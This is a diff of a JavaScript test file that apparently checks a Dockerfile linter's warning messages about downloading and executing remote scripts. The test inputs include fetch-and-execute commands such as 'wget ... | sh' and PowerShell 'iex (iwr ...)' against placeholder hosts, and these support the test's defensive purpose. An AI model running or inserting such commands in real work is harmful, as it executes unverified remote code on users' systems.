@@ -2175,7 +2175,7 @@ describe('names in messages of grave rules', () => {
       'bash executes what curl downloads, without any verification.',
     ]);
     assert.deepEqual(of('RUN wget -qO- http://x.test/i.sh | sh'), [
-      'sh executes what wget downloads over a connection that others can tamper with.',
+      'sh executes what wget downloads: others can tamper with the connection.',
     ]);
     assert.deepEqual(of('SHELL ["powershell"]\nRUN iex (iwr https://x.test/i.ps1).Content'), [
       'iex executes what it downloads, without any verification.',
